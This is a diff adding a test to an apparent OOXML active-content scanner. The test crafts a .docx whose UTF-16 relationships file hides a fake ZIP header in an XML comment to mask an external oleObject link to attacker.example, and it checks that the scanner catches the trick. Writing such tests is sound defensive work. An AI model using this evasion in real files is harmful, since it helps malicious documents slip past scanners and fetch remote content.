@@ -179,6 +179,35 @@ describe("OOXML active content", () => {
     expect(reasons(file)).toEqual(["unscannable"]);
   });
 
+  it("refuses a local header inside a stored .rels part's text instead of ending the read there", () => {
+    // A fake local header for "ab.rels" at an odd offset inside a UTF-16 comment: every code
+    // unit it makes is a valid XML character, and it ended the read of the real part, whose
+    // oleObject relationship after the comment went unread.
+    const fake = Buffer.alloc(30);
+    fake.writeUInt32LE(0x04034b50, 0);
+    fake.writeUInt16LE(0x2020, 4); // version needed
+    fake.writeUInt16LE(0x2000, 6); // flags: not encrypted, sizes in the header
+    fake.writeUInt16LE(0, 8); // stored
+    fake.writeUInt32LE(0x21212121, 10); // time, date
+    fake.writeUInt32LE(0x21212121, 14); // CRC
+    fake.writeUInt32LE(0x2020, 18);
+    fake.writeUInt32LE(0x2020, 22);
+    fake.writeUInt16LE(7, 26);
+    fake.writeUInt16LE(0x20, 28); // extra field length
+    const inComment = Buffer.concat([Buffer.from([0x41]), fake, Buffer.from("ab.rels", "latin1"), Buffer.from([0x41])]);
+    const rels = Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><!--', "utf16le"),
+      inComment,
+      Buffer.from(`${"x".repeat(0x1020)}--><Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/></Relationships>`, "utf16le"),
+    ]);
+    const units = Array.from({ length: rels.length / 2 - 1 }, (_, i) => rels.readUInt16LE(2 + 2 * i));
+    expect(units.filter((u) => (u < 0x20 && u !== 0x09 && u !== 0x0a && u !== 0x0d) || (u >= 0xd800 && u <= 0xdfff) || u >= 0xfffe)).toEqual([]);
+    const found = reasons(docx({ "word/_rels/document.xml.rels": rels }, contentTypes(), 0));
+    expect(found).toContain("unscannable");
+    expect(found).toContain("office_ole_object");
+  });
+
   it("refuses a [Content_Types].xml it cannot read: truncated, another method, a DTD, named only in the central directory", () => {
     const whole = docx();
     const data = whole.indexOf("[Content_Types].xml") + "[Content_Types].xml".length; // fflate writes no extra field
